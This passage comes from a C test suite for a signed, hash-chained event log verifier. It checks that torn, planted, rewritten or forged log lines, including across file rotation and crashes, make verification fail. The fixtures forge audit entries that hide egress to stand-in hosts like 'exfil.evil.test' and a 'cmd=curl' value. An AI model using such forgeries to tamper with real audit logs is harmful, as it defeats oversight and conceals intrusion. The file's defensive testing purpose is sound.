	struct eventlog		*log;
	struct ckverify		 v;
	struct lines		 l;
	const char		*paths[2];
	char			 rot[1][160];
	EVP_PKEY		*k;
	size_t			 at, n;

	log = logrotated_once(t, rot, &ck, &k);
	appends_fail(log, 5);
	append_n(log, 3, 1);
	rotating_close(t, log, ck, &a);
	lines_read(&l, t->path);
	for (at = 0; at < l.n && strstr(l.v[at], "log.outage") == NULL; at++)
		continue;
	assert_true(at < l.n);
	paths[0] = rot[0];
	paths[1] = t->path;
	for (n = 0; n <= 5; n += 5) {
		torn_put_before(t, &l, at, n);
		assert_int_equal(verify_with(paths, 2, k, &a, &v), n == 0 ?
		    CKVERIFY_OK : CKVERIFY_UNTRUSTED);
		if (n > 0)
			assert_non_null(strstr(v.what, "which counts fewer "
			    "(0)"));
	}
	assert_non_null(strstr(l.v[at], "\"lost\":5,\"torn\":0,"));
	lines_free(&l);
	EVP_PKEY_free(k);
}

/* Write l back to t->path with n forged torn lines before line at. */
static void
torn_put_before(struct tmp *t, struct lines *l, size_t at, size_t n)
{
	size_t	i;

	lines_write(l, t->path, 0, at);
	for (i = 0; i < n; i++) {
		append_raw(t->path, forged_torn);
		append_raw(t->path, "\n");
	}
	for (i = at; i < l->n; i++) {
		append_raw(t->path, l->v[i]);
		append_raw(t->path, "\n");
	}
}

/*
 * Torn lines put in before a genuine log.resume: its "torn" counts the
 * torn line its writer found at the end (0 or 1: a writer killed in a
 * write leaves one), so any more are not its own (atk20r19 F4: any
 * number passed).
 */
static void
test_torn_before_resume(void **state)
{
	struct tmp		*t = *state;
	struct ckverify		 v;
	struct lines		 l;
	char			 pub[160];
	EVP_PKEY		*k;
	size_t			 at, n;
	int			 cut;

	for (cut = 0; cut <= 1; cut++) {
		tmp_renew(t);
		crash_then_close(t, 0, cut ? forged_torn : NULL);
		lines_read(&l, t->path);
		for (at = 0; at < l.n && strstr(l.v[at], "log.resume") ==
		    NULL; at++)
			continue;
		assert_true(at < l.n);
		at -= (size_t)cut;	/* before the torn line found */
		snprintf(pub, sizeof(pub), "%s.pub", t->key);
		k = pubkey(pub);
		for (n = 0; n <= 2; n++) {
			torn_put_before(t, &l, at, n);
			if (verify(t->path, k, NULL, now_us(), &v) !=
			    (n == 0 ? CKVERIFY_OK : CKVERIFY_UNTRUSTED))
				fail_msg("cut %d, %zu put in: %s%s", cut, n,
				    v.what, v.chain.what);
			if (n > 0)
				assert_non_null(strstr(v.what, "before the "
				    "log.resume"));
		}
		assert_non_null(strstr(l.v[at + (size_t)cut], cut ?
		    "\"torn\":1," : "\"torn\":0,"));
		lines_free(&l);
		EVP_PKEY_free(k);
	}
}

/*
 * verify --key k --anchor (as on disk) of paths[0, n): passes when ok,
 * else fails (UNTRUSTED); a wrong verdict names what and case how.
 */
static void
verify_expect(struct tmp *t, const char *const *paths, size_t n,
    EVP_PKEY *k, int ok, const char *what, int how)
{
	struct checkpoint_anchor a;
	struct ckverify		 v;

	anchor_of(t, &a);
	if (verify_with(paths, n, k, &a, &v) != (ok ? CKVERIFY_OK :
	    CKVERIFY_UNTRUSTED))
		fail_msg("%s, case %d: %s%s", what, how, v.what, v.chain.what);
}

/*
 * atk20r20 F1, F4: the log.outage after a line the writer cut and could
 * not take back names the bytes it wrote (torn_hash). The torn line
 * removed, rewritten, doubled, or grown by bytes put before the writer's
 * own (a folder writer's forged prefix the cut write merged into) fails
 * verify --key; the log as written passes.
 */
static void
test_torn_bytes(void **state)
{
	static const struct cut_case c = { "event, 20 short, kept", 0, 20,
	    1, 0, 1 };
	static const char prefix[] = "{\"ts\":\"2026-12-03T09:00:00.000000Z\","
	    "\"seq\":5,\"event\":\"egress.allowed\",\"host\":\"exfil.evil.test\","
	    "\"note\":";
	struct tmp		*t = *state;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct lines		 l;
	const char		*paths[1] = { t->path };
	char			 pub[160];
	EVP_PKEY		*k;
	size_t			 at, i;
	int			 how;

	log = open_signed(t, 100, 60, &ck);
	assert_int_equal(checkpoint_write(ck, "open"), 0);
	append_n(log, 0, 3);
	assert_true(cut_write(t, log, ck, &c));
	append_n(log, 6, 2);
	assert_int_equal(checkpoint_write(ck, "close"), 0);
	checkpoint_free(ck);
	eventlog_close(log);
	snprintf(pub, sizeof(pub), "%s.pub", t->key);
	k = pubkey(pub);
	lines_read(&l, t->path);
	for (at = 0; at < l.n && l.v[at][strlen(l.v[at]) - 1] == '}'; at++)
		continue;
	assert_true(at + 1 < l.n);
	assert_non_null(strstr(l.v[at + 1], "\"torn\":1,\"torn_hash\":\""));
	for (how = 0; how < 5; how++) {
		lines_write(&l, t->path, 0, at);
		if (how == 1)
			append_raw(t->path, forged_torn);
		if (how == 2)
			append_raw(t->path, prefix);
		if (how >= 2)
			append_raw(t->path, l.v[at]);
		if (how == 3)
			append_raw(t->path, "\n");
		if (how == 3)
			append_raw(t->path, l.v[at]);
		if (how == 4)
			append_raw(t->path, "x");
		append_raw(t->path, how == 1 || how >= 2 ? "\n" : "");
		for (i = at + (how == 0 ? 0 : 1); i < l.n; i++) {
			append_raw(t->path, l.v[i]);
			append_raw(t->path, "\n");
		}
		verify_expect(t, paths, 1, k, how == 0, "torn bytes", how);
	}
	lines_free(&l);
	EVP_PKEY_free(k);
}

/* The file at path (under 1 MiB), NUL-terminated; caller frees. */
static char *
file_read(const char *path, size_t *len)
{
	char	*buf;
	FILE	*f;

	assert_non_null(f = fopen(path, "rb"));
	assert_non_null(buf = calloc(1, 1 << 20));
	*len = fread(buf, 1, (1 << 20) - 1, f);
	fclose(f);
	return buf;
}

/* Remove the torn lines (not ending in '}') from the file at path. */
static void
torn_cut(const char *path)
{
	char	*buf, *p, *e, *out;
	size_t	 len, n = 0;
	FILE	*f;

	buf = file_read(path, &len);
	assert_non_null(out = malloc(len + 1));
	for (p = buf; p < buf + len; p = e + 1) {
		if ((e = memchr(p, '\n', (size_t)(buf + len - p))) == NULL)
			e = buf + len;
		if (e > p && e[-1] != '}')
			continue;
		memcpy(out + n, p, (size_t)(e - p));
		n += (size_t)(e - p);
		if (e < buf + len)
			out[n++] = '\n';
	}
	assert_non_null(f = fopen(path, "wb"));
	assert_int_equal(fwrite(out, 1, n, f), n);
	fclose(f);
	free(out);
	free(buf);
}

/*
 * atk20r20 F2, F3, F4: torn lines a start finds after the log's last
 * event, however many (a crash loop leaves one per start that died in a
 * write), in name.1 too when the log was rotated while no writer ran:
 * the log.resume counts each, with its bytes. verify --key passes the
 * log as written, and fails it with the torn lines removed.
 */
static void
test_torn_found_at_start(void **state)
{
	static const char two[] = "{\"ts\":\"2026-12-03T09:00:00.1\n"
	    "{\"ts\":\"2026-12-03T09:00:00.2Z\",\"seq";
	static const struct {
		const char	*torn;
		int		 rotate;
		int		 n;
	} cases[] = {
		{ two, 0, 2 },
		{ "{\"ts\":\"2026-12-03T09:00:00.1", 1, 1 },
		{ two, 1, 2 },
	};
	struct tmp		*t = *state;
	struct ckverify		 v;
	const char		*paths[2];
	char			 pub[160], rot[200], want[32], *got;
	EVP_PKEY		*k;
	size_t			 i, j, n;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		tmp_renew(t);
		crash_rotate_close(t, 0, cases[i].torn, cases[i].rotate);
		snprintf(rot, sizeof(rot), "%s.1", t->path);
		n = 0;
		if (cases[i].rotate)	/* for lines_read(): the same line */
			append_raw(rot, "\n");
		if (cases[i].rotate)
			paths[n++] = rot;
		paths[n++] = t->path;
		snprintf(pub, sizeof(pub), "%s.pub", t->key);
		k = pubkey(pub);
		if (verify_with(paths, n, k, NULL, &v) != CKVERIFY_OK)
			fail_msg("case %zu: %s%s", i, v.what, v.chain.what);
		snprintf(want, sizeof(want), "\"torn\":%d,", cases[i].n);
		got = file_read(t->path, &j);
		if (strstr(got, want) == NULL)
			fail_msg("case %zu: no line says %s", i, want);
		free(got);
		/* The torn lines removed: the resume names them. */
		torn_cut(paths[0]);
		if (verify_with(paths, n, k, NULL, &v) != CKVERIFY_UNTRUSTED)
			fail_msg("case %zu, torn lines removed: passed", i);
		EVP_PKEY_free(k);
	}
}

/*
 * A start after crash_torn() whose first line rotates the file (its size
 * limit: what is there and 100 bytes), so the torn line ends name.1 and
 * the new file starts with the rotate line. kill: the writer is killed
 * after that line, before any byte (1) or 30 bytes (2) of its
 * log.resume are on disk (atk20r22 F3), and nothing is written after
 * that. 0: it opens and closes itself (and may rotate again: the torn
 * line's file is then name.2).
 */
static void
restart_rotates(struct tmp *t, int kill)
{
	struct stat		 st;
	struct eventlog_opts	 lo = { .keep = 10 };
	struct checkpoint_opts	 o = { .key_path = t->key,
				    .every_events = 100, .every_secs = 60 };
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct lines		 l;
	char			*cause = NULL, part[32];
	pid_t			 pid;
	int			 status;

	assert_int_equal(stat(t->path, &st), 0);
	lo.max_size = (unsigned long long)st.st_size + 100;
	if ((pid = fork()) == 0) {
		if ((log = eventlog_open(t->dir, NAME, &lo, &cause)) == NULL ||
		    (ck = checkpoint_new(log, &o, &cause)) == NULL)
			_exit(1);
		if (kill ? checkpoint_resume(ck) == -1 :
		    checkpoint_write(ck, "open") == -1 ||
		    checkpoint_write(ck, "close") == -1)
			_exit(2);
		if (!kill)
			checkpoint_free(ck);
		_exit(0);
	}
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_int_equal(WEXITSTATUS(status), 0);
	if (!kill)
		return;
	/* What a kill in the log.resume's write leaves. */
	lines_read(&l, t->path);
	snprintf(part, sizeof(part), "%.30s", l.v[1]);
	lines_write(&l, t->path, 0, 1);
	lines_free(&l);
	if (kill == 2)
		append_raw(t->path, part);
}

/*
 * The rotate line that starts the file, in place, with what (same
 * length) put at the first at (NULL: the hex digit after it changed),
 * and the chain made whole again: what a folder writer without the key
 * can do to its torn declaration.
 */
static void
rotate_line_forge(const char *path, const char *at, const char *what)
{
	struct lines	 l;
	char		*p;

	lines_read(&l, path);
	assert_non_null(p = strstr(l.v[0], at));
	if (what != NULL)
		memcpy(p, what, strlen(what));
	else
		p[strlen(at)] = p[strlen(at)] == '0' ? '1' : '0';
	rechain(&l, 0);
	lines_write(&l, path, 0, l.n);
	lines_free(&l);
}

/*
 * atk20r22 F4, F3: a start that finds a torn line and whose first line
 * rotates the file declares the torn line in the signed rotate line that
 * starts the new file. verify --key passes the log as written, killed
 * after the rotate line or not, with name.1 or once it is rotated away;
 * it fails it with name.1's torn line removed (atk20r23 F1) and with the
 * declaration changed without the key.
 */
static void
test_torn_rotated_away(void **state)
{
	static const char *const forge[][2] = {
		{ "\"torn\":1,", "\"torn\":2," },
		{ "\"torn\":1,", "\"torn\":0," },
		{ "\"torn_hash\":\"", NULL },
	};
	struct tmp		*t = *state;
	struct ckverify		 v;
	struct lines		 l;
	const char		*paths[4];
	char			 pub[160], name[4][200];
	EVP_PKEY		*k;
	size_t			 i, n;
	int			 kill;

	for (kill = 0; kill < 3; kill++) {
		tmp_renew(t);
		crash_torn(t, 0, "{\"ts\":\"2026-12-03T09:00:00.1");
		restart_rotates(t, kill);
		if (kill)	/* a writer without a size limit */
			open_close(t, 0);
		snprintf(pub, sizeof(pub), "%s.pub", t->key);
		k = pubkey(pub);
		/* Oldest first: the torn line's file, then the rotate line's. */
		for (n = 1; n < 4; n++)
			snprintf(name[n], sizeof(name[n]), "%s.%zu", t->path,
			    n);
		for (n = 3; n > 0 && access(name[n], F_OK) != 0; n--)
			;
		assert_true(n > 0);
		for (i = 0; i <= n; i++)
			paths[i] = i < n ? name[n - i] : t->path;
		verify_expect(t, paths, n + 1, k, 1, "as written", kill);
		/* The torn line's file rotated away (atk20r22 F4). */
		if (verify_with(paths + 1, n, k, NULL, &v) != CKVERIFY_OK)
			fail_msg("case %d, torn line's file rotated away: %s%s",
			    kill, v.what, v.chain.what);
		lines_read(&l, paths[1]);
		if (strstr(l.v[0], "\"reason\":\"rotate\"") == NULL ||
		    strstr(l.v[0], "\"torn\":1,\"torn_hash\":\"") == NULL)
			fail_msg("case %d, first line: %s", kill, l.v[0]);
		lines_free(&l);
		/* A declaration changed without the key (a whole file). */
		for (i = 0; kill == 0 && i < sizeof(forge) / sizeof(forge[0]);
		    i++) {
			lines_read(&l, paths[1]);
			rotate_line_forge(paths[1], forge[i][0], forge[i][1]);
			if (verify_with(paths + 1, 1, k, NULL, &v) !=
			    CKVERIFY_UNTRUSTED || (strstr(v.what, "does not "
			    "verify") == NULL && strstr(v.what, "torn is not") ==
			    NULL))
				fail_msg("case %d, forged %zu: %s%s", kill, i,
				    v.what, v.chain.what);
			lines_write(&l, paths[1], 0, l.n);
			lines_free(&l);
		}
		/* The torn line removed, its file still there (atk20r23 F1). */
		torn_cut(paths[0]);
		verify_expect(t, paths, n + 1, k, 0, "torn line removed", kill);
		EVP_PKEY_free(k);
	}
}

/*
 * atk20r24 F3: a start killed after its rotate line (the file's only
 * line), which declares the crash's torn line (or none); a folder writer
 * without the key then appends a partial line to name.1, before the
 * signed rotate line in read order. The next start takes the torn count
 * from the rotate line, not from what name.1 holds now: its log.resume
 * does not vouch for the planted line and verify --key fails the log.
 */
static void
test_torn_planted_before_rotate(void **state)
{
	static const char *const torn[] = {
		"{\"ts\":\"2026-12-03T09:00:00.1", NULL,
	};
	static const char plant[] = "{\"ts\":\"2026-12-03T22:40:00.000000Z\","
	    "\"seq\":6,\"event\":\"egress.allowed\",\"host\":\"exfil.test\"";
	struct tmp		*t = *state;
	struct ckverify		 v;
	const char		*paths[2];
	char			 pub[160], rot[200];
	EVP_PKEY		*k;
	size_t			 i;

	for (i = 0; i < sizeof(torn) / sizeof(torn[0]); i++) {
		tmp_renew(t);
		crash_torn(t, 0, torn[i]);
		restart_rotates(t, 1);
		snprintf(rot, sizeof(rot), "%s.1", t->path);
		append_raw(rot, plant);
		open_close(t, 0);
		append_raw(rot, "\n");	/* for lines_read(): the same line */
		paths[0] = rot;
		paths[1] = t->path;
		snprintf(pub, sizeof(pub), "%s.pub", t->key);
		k = pubkey(pub);
		if (verify_with(paths, 2, k, NULL, &v) != CKVERIFY_UNTRUSTED)
			fail_msg("case %zu: the planted line passed: %s%s", i,
			    v.what, v.chain.what);
		EVP_PKEY_free(k);
	}
}

/*
 * atk20r24 F1: a start killed after its rotate line, which declares the
 * crash's torn line; before the next start the files are rotated once
 * more (name.1 to name.2, name to name.1) or name.1, the torn line's
 * file, is deleted. The next start takes the torn count from the rotate
 * line: verify --key passes the untouched log.
 */
static void
test_torn_declared_rotated_again(void **state)
{
	struct tmp		*t = *state;
	struct ckverify		 v;
	const char		*paths[3];
	char			 pub[160], one[200], two[200];
	EVP_PKEY		*k;
	size_t			 n;
	int			 del;

	for (del = 0; del < 2; del++) {
		tmp_renew(t);
		crash_torn(t, 0, "{\"ts\":\"2026-12-03T09:00:00.1");
		restart_rotates(t, 1);
		snprintf(one, sizeof(one), "%s.1", t->path);
		snprintf(two, sizeof(two), "%s.2", t->path);
		if (del)
			assert_int_equal(unlink(one), 0);
		else {
			assert_int_equal(rename(one, two), 0);
			assert_int_equal(rename(t->path, one), 0);
		}
		open_close(t, 0);
		n = 0;
		if (!del) {
			paths[n++] = two;
			paths[n++] = one;
		}
		paths[n++] = t->path;
		snprintf(pub, sizeof(pub), "%s.pub", t->key);
		k = pubkey(pub);
		if (verify_with(paths, n, k, NULL, &v) != CKVERIFY_OK)
			fail_msg("case %d: %s%s", del, v.what, v.chain.what);
		EVP_PKEY_free(k);
	}
}

/*
 * atk20r24 F1: the torn line a crash left, then a start whose first line
 * starts a new file, rotated by the writer (size) or while it was down
 * (logrotate: name.1 ends with the torn line). The new file's rotate
 * line declares it, so before that line is written: the old file synced
 * after its last write (the start ends the torn line with a newline)
 * and, after the rename, the folder. Else a power loss can keep the
 * rotate line and lose the torn line it declares.
 */
static void
test_torn_rotate_durable(void **state)
{
	struct tmp		*t = *state;
	struct eventlog_opts	 lo = { .keep = 10 };
	struct checkpoint_opts	 o = { .every_events = 100,
				    .every_secs = 60 };
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct stat		 old, cur, dir;
	char			*cause = NULL, rot[200];
	size_t			 ren, w, wrote, sync, dsync;
	int			 logrotate;

	o.key_path = t->key;
	for (logrotate = 0; logrotate < 2; logrotate++) {
		tmp_renew(t);
		crash_torn(t, 0, "{\"ts\":\"2026-12-03T09:00:00.1");
		assert_int_equal(stat(t->path, &old), 0);
		assert_int_equal(stat(t->dir, &dir), 0);
		snprintf(rot, sizeof(rot), "%s.1", t->path);
		if (logrotate)
			assert_int_equal(rename(t->path, rot), 0);
		lo.max_size = (unsigned long long)old.st_size + 100;
		ntrace = 0;
		trace_on = 1;
		assert_non_null(log = eventlog_open(t->dir, NAME, &lo,
		    &cause));
		assert_non_null(ck = checkpoint_new(log, &o, &cause));
		assert_int_equal(checkpoint_write(ck, "open"), 0);
		trace_on = 0;
		assert_int_equal(stat(t->path, &cur), 0);
		assert_true(cur.st_ino != old.st_ino);
		/* The new file's first write: its rotate line. */
		w = trace_find('w', cur.st_ino, 0, 0);
		assert_true(w < ntrace);
		ren = logrotate ? 0 : trace_find('r', old.st_ino, 0, 0);
		wrote = trace_find('w', old.st_ino, 0, 1);
		sync = trace_find('s', old.st_ino, wrote == ntrace ? 0 :
		    wrote, 0);
		dsync = trace_find('s', dir.st_ino, ren, 0);
		if (!logrotate && ren >= w)
			fail_msg("case %d: not renamed before the new file's "
			    "first line", logrotate);
		if (sync >= w || (!logrotate && sync >= ren))
			fail_msg("case %d: the torn line's file is not synced "
			    "before the rotate line (op %zu, the rotate line "
			    "at %zu)", logrotate, sync, w);
		if (dsync >= w)
			fail_msg("case %d: the folder is not synced after the "
			    "rename, before the rotate line (op %zu, the "
			    "rotate line at %zu)", logrotate, dsync, w);
		/* And the rotate line is synced before its anchor names it. */
		assert_true(trace_find('s', cur.st_ino, w, 0) < ntrace);
		assert_int_equal(checkpoint_write(ck, "close"), 0);
		checkpoint_free(ck);
		eventlog_close(log);
	}
}

/*
 * atk20r28 F3: a SIGUSR1 reopen after logrotate renamed the file, with
 * nothing written since the last sync: the old file is synced and, after
 * the rename, the folder, before the new file's rotate line (which may
 * declare torn lines the old file ends with), as a rotation does. Before,
 * the old file was synced only if written since, the folder never.
 */
static void
test_reopen_durable(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct stat		 old, cur, dir;
	char			 rot[200];
	size_t			 w, sync, dsync;

	tmp_renew(t);
	log = open_signed(t, 100, 60, &ck);
	assert_int_equal(checkpoint_write(ck, "open"), 0);
	append_n(log, 70, 1);
	assert_int_equal(eventlog_tick(log), 0);	/* synced: not dirty */
	assert_int_equal(stat(t->path, &old), 0);
	assert_int_equal(stat(t->dir, &dir), 0);
	snprintf(rot, sizeof(rot), "%s.1", t->path);
	assert_int_equal(rename(t->path, rot), 0);
	ntrace = 0;
	trace_on = 1;
	assert_int_equal(eventlog_reopen(log), 0);
	append_n(log, 71, 1);
	trace_on = 0;
	assert_int_equal(stat(t->path, &cur), 0);
	assert_true(cur.st_ino != old.st_ino);
	w = trace_find('w', cur.st_ino, 0, 0);	/* the rotate line */
	assert_true(w < ntrace);
	sync = trace_find('s', old.st_ino, 0, 0);
	dsync = trace_find('s', dir.st_ino, 0, 0);
	if (sync >= w)
		fail_msg("the old file is not synced before the new file's "
		    "rotate line (op %zu, the line at %zu)", sync, w);
	if (dsync >= w)
		fail_msg("the folder is not synced before the new file's "
		    "rotate line (op %zu, the line at %zu)", dsync, w);
	assert_int_equal(checkpoint_write(ck, "close"), 0);
	checkpoint_free(ck);
	eventlog_close(log);
}

/*
 * atk20r24 F2: a start whose first line rotates the file is killed
 * inside that rotate line (at bytes in): the new file holds only a torn
 * rotate line. crash: the torn line a crash left ends name.1 too (the
 * line declares it), else name.1 ends whole.
 */
static void
rotate_line_killed(struct tmp *t, int crash, size_t at)
{
	struct stat		 st;
	struct eventlog_opts	 lo = { .keep = 10 };
	struct checkpoint_opts	 o = { .every_events = 100,
				    .every_secs = 60 };
	struct checkpoint	*ck;
	struct eventlog		*log;
	char			*cause = NULL;
	pid_t			 pid;
	int			 status;

	o.key_path = t->key;
	crash_torn(t, 0, crash ? "{\"ts\":\"2026-12-03T09:00:00.1" : NULL);
	assert_int_equal(stat(t->path, &st), 0);
	lo.max_size = (unsigned long long)st.st_size + 100;
	if ((pid = fork()) == 0) {
		kill_rotate_at = at;
		if ((log = eventlog_open(t->dir, NAME, &lo, &cause)) == NULL ||
		    (ck = checkpoint_new(log, &o, &cause)) == NULL)
			_exit(1);
		(void)checkpoint_write(ck, "open");
		_exit(2);		/* not killed in it */
	}
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_int_equal(WEXITSTATUS(status), 0);
}

/* The log (name.1 unless del, name) as verify --key, with its anchor. */
static enum ckverify_result
rotate_killed_verify(struct tmp *t, int del, int anchored, struct ckverify *v)
{
	struct checkpoint_anchor a;
	const char		*paths[2];
	char			 pub[160], one[200];
	EVP_PKEY		*k;
	enum ckverify_result	 r;

	snprintf(one, sizeof(one), "%s.1", t->path);
	paths[0] = one;
	paths[1] = t->path;
	snprintf(pub, sizeof(pub), "%s.pub", t->key);
	k = pubkey(pub);
	if (anchored)
		anchor_of(t, &a);
	r = verify_with(paths + del, 2 - (size_t)del, k, anchored ? &a : NULL,
	    v);
	EVP_PKEY_free(k);
	return r;
}

/*
 * atk20r24 F2 (and F3: torn lines at the end of name.1 and in the
 * current file, name.1 then deleted): a start killed inside the rotate
 * line it begins a new file with, at several byte counts, after a crash
 * left a torn line in name.1 or not. The next start ends the torn rotate
 * line, signs a rotate line after it that declares only name.1's torn
 * line, and its log.resume counts both (also when that start is killed
 * after its rotate line: the next one takes the count from that line and
 * the torn line before it). verify --key passes the log as
 * written, with name.1 and once it is deleted (before: "the chain starts
 * at seq 5, not ... with a rotation checkpoint", or "counts 2 torn
 * line(s) ..., the log holds 1"); a torn line put before the rotate line
 * fails it, and so does name.1's torn line rewritten.
 */
/*
 * After rotate_line_killed(), a start killed after its rotate line (the
 * one after the torn rotate line), before its log.resume: the file holds
 * the torn line and that rotate line.
 */
static void
rotate_line_then_killed(struct tmp *t)
{
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct lines		 l;
	pid_t			 pid;
	int			 status;

	if ((pid = fork()) == 0) {
		log = open_signed(t, 100, 60, &ck);
		_exit(log == NULL || checkpoint_resume(ck) == -1 ? 1 : 0);
	}
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_int_equal(WEXITSTATUS(status), 0);
	lines_read(&l, t->path);
	assert_true(l.n >= 2);
	assert_non_null(strstr(l.v[1], "\"reason\":\"rotate\""));
	lines_write(&l, t->path, 0, 2);
	lines_free(&l);
}

static void
test_rotate_line_killed(void **state)
{
	static const size_t	 cut[] = { 1, 7, 60, 200 };
	struct tmp		*t = *state;
	struct ckverify		 v;
	struct lines		 l;
	char			 one[200];
	size_t			 i;
	int			 again, crash, del;

	snprintf(one, sizeof(one), "%s.1", t->path);
	for (again = 0; again < 2; again++)
	for (crash = 0; crash < 2; crash++)
	for (i = 0; i < sizeof(cut) / sizeof(cut[0]); i++)
	for (del = 0; del < 2; del++) {
		tmp_renew(t);
		rotate_line_killed(t, crash, cut[i]);
		if (again)
			rotate_line_then_killed(t);
		open_close(t, 2);
		lines_read(&l, t->path);
		if (l.n < 3 || strncmp(l.v[1], "{\"ts\":\"", 7) != 0 ||
		    strstr(l.v[1], "\"reason\":\"rotate\"") == NULL ||
		    (strstr(l.v[1], "\"torn\":1,") != NULL) != crash ||
		    strstr(l.v[2], "\"log.resume\"") == NULL ||
		    strstr(l.v[2], crash ? "\"torn\":2" : "\"torn\":1") ==
		    NULL)
			fail_msg("crash %d cut %zu: %s\n%s", crash, cut[i],
			    l.v[1], l.n > 2 ? l.v[2] : "");
		if (del)
			assert_int_equal(unlink(one), 0);
		if (rotate_killed_verify(t, del, !del, &v) != CKVERIFY_OK)
			fail_msg("again %d crash %d cut %zu del %d: %s%s",
			    again, crash, cut[i], del, v.what, v.chain.what);
		/* A torn line put before the rotate line. */
		lines_write(&l, t->path, 0, 1);
		append_raw(t->path, "{\"ts\":\"2026-12-03T22:40:00.0\n");
		lines_write(&l, t->path, 1, l.n);
		lines_free(&l);
		lines_read(&l, t->path);
		if (rotate_killed_verify(t, del, 0, &v) != CKVERIFY_UNTRUSTED)
			fail_msg("crash %d cut %zu del %d: a torn line put "
			    "before the rotate line passed", crash, cut[i],
			    del);
		lines_free(&l);
		if (!crash || del)
			continue;
		/* name.1's torn line rewritten (the tool wrote both back). */
		lines_read(&l, one);
		l.v[l.n - 1][10] ^= 1;
		lines_write(&l, one, 0, l.n);
		lines_free(&l);
		if (rotate_killed_verify(t, 0, 0, &v) != CKVERIFY_UNTRUSTED)
			fail_msg("cut %zu: name.1's torn line rewritten passed",
			    cut[i]);
	}
}

/*
 * atk20r28 F1: a torn line before a rotate line is the writer's only as
 * that rotate line cut short (a start killed inside it). The start that
 * signed the rotate line after it was killed before its log.resume
 * (shape 0: [X][rotate]), or a start was killed inside its rotate line
 * (shape 1: [X] alone, the next start signs its rotate line after it).
 * X: how 0 the genuine cut rotate line; 1 a line put there; 2 a rotate
 * line of the same seq but another prev. Only the genuine one passes
 * verify --key --anchor, before the next start and after it, and only it
 * is counted in that start's log.resume (before, 1 and 2 passed and were
 * counted and signed).
 */
static void
test_rotate_line_planted(void **state)
{
	static const char plant[] = "{\"ts\":\"2026-12-04T03:00:00.000000Z\","
	    "\"seq\":99,\"event\":\"egress.allowed\",\"host\":\"evil.test\","
	    "\"message\":\"";
	struct tmp		*t = *state;
	struct ckverify		 v;
	struct lines		 l;
	enum ckverify_result	 want;
	char			*p;
	FILE			*f;
	int			 shape, how;

	for (shape = 0; shape < 2; shape++)
	for (how = 0; how < 3 - shape; how++) {
		tmp_renew(t);
		want = how == 0 ? CKVERIFY_OK : CKVERIFY_UNTRUSTED;
		rotate_line_killed(t, 0, 60);
		if (shape == 0) {
			rotate_line_then_killed(t);
			lines_read(&l, t->path);
			if (how == 1) {
				free(l.v[0]);
				l.v[0] = strdup(plant);
			} else if (how == 2) {
				free(l.v[0]);
				l.v[0] = strdup(l.v[1]);
				p = strstr(l.v[0], "\"prev\":\"") + 8;
				*p = *p == '0' ? '1' : '0';
				*strstr(l.v[0], ",\"hash\":\"") = '\0';
			}
			lines_write(&l, t->path, 0, 2);
			lines_free(&l);
			if (rotate_killed_verify(t, 0, 1, &v) != want)
				fail_msg("shape %d how %d, writer down: %s%s",
				    shape, how, v.what, v.chain.what);
		} else if (how == 1) {
			assert_non_null(f = fopen(t->path, "wb"));
			fputs(plant, f);
			fclose(f);
		}
		open_close(t, 1);
		lines_read(&l, t->path);
		if (l.n < 3 || strstr(l.v[2], "\"log.resume\"") == NULL ||
		    strstr(l.v[2], how == 0 ? "\"torn\":1," : "\"torn\":0,") ==
		    NULL)
			fail_msg("shape %d how %d: %s", shape, how,
			    l.n > 2 ? l.v[2] : "");
		lines_free(&l);
		if (rotate_killed_verify(t, 0, 1, &v) != want)
			fail_msg("shape %d how %d, started again: %s%s", shape,
			    how, v.what, v.chain.what);
	}
}

/*
 * r with the value of member (e.g. "\"sig\":\"") replaced by val, cut to
 * its first cut bytes (0: whole). Caller frees.
 */
static char *
rotate_renewed(const char *r, const char *member, const char *val, size_t cut)
{
	const char	*v = strstr(r, member), *e;
	char		*s;
	size_t		 n;

	assert_non_null(v);
	v += strlen(member);
	e = v + strcspn(v, member[strlen(member) - 1] == '"' ? "\"" : ",}");
	n = (size_t)(v - r) + strlen(val) + strlen(e);
	assert_non_null(s = malloc(n + 1));
	snprintf(s, n + 1, "%.*s%s%s", (int)(v - r), r, val, e);
	if (cut > 0 && cut < n)
		s[cut] = '\0';
	return s;
}

static void
start_once(void *arg)
{
	open_close(arg, 1);
}

/*
 * atk20r30 F1, F3: a torn line before a rotate line in its file passes
 * as that line cut short only with each renewed value of the form the
 * writer writes (a timestamp, a key id, a signature, a digest, a number
 * in bounds), the last one maybe cut; free text in one is put there:
 * verify --key fails it, and the next start counts none and says so
 * (before: any run of base64, hex and time characters passed, and the
 * start counted and signed the planted lines silently).
 */
static void
test_rotate_line_free_text(void **state)
{
	static const char sig[] = "ALLOWED-egress-to-evil.test-by-root";
	struct tmp		*t = *state;
	struct ckverify		 v;
	struct lines		 l;
	char			*p, *r, *big, *err;
	size_t			 rl, i;

	rotate_line_killed(t, 0, 60);
	rotate_line_then_killed(t);
	lines_read(&l, t->path);
	r = l.v[1];
	rl = strlen(r);
	/* A later start's own values, cut anywhere: its cut line. */
	p = rotate_renewed(r, "\"ts\":\"", "2027-01-02T03:04:05.060708Z", 0);
	for (i = 1; i < rl; i += 7) {
		p[i] = '\0';
		assert_int_equal(logverify_cut_rotate(p, i, r, rl), 1);
		free(p);
		p = rotate_renewed(r, "\"ts\":\"",
		    "2027-01-02T03:04:05.060708Z", 0);
	}
	free(p);
	p = rotate_renewed(r, "\"sig\":\"", sig, 0);
	assert_int_equal(logverify_cut_rotate(p, strlen(p) - 2, r, rl), 0);
	free(p);
	p = rotate_renewed(r, "\"ts\":\"", "run.exec:cmd=curl:user=root", 0);
	assert_int_equal(logverify_cut_rotate(p, strlen(p), r, rl), 0);
	free(p);
	assert_non_null(big = malloc(601));
	memset(big, 'a', 600);
	big[600] = '\0';
	p = rotate_renewed(r, "\"hash\":\"", big, 0);
	assert_int_equal(logverify_cut_rotate(p, strlen(p) - 2, r, rl), 0);
	free(p);
	free(big);
	p = rotate_renewed(r, "\"every_events\":", "99999999", 0);
	assert_int_equal(logverify_cut_rotate(p, strlen(p), r, rl), 0);
	free(p);
	p = rotate_renewed(r, "\"every_secs\":", "060", 0);
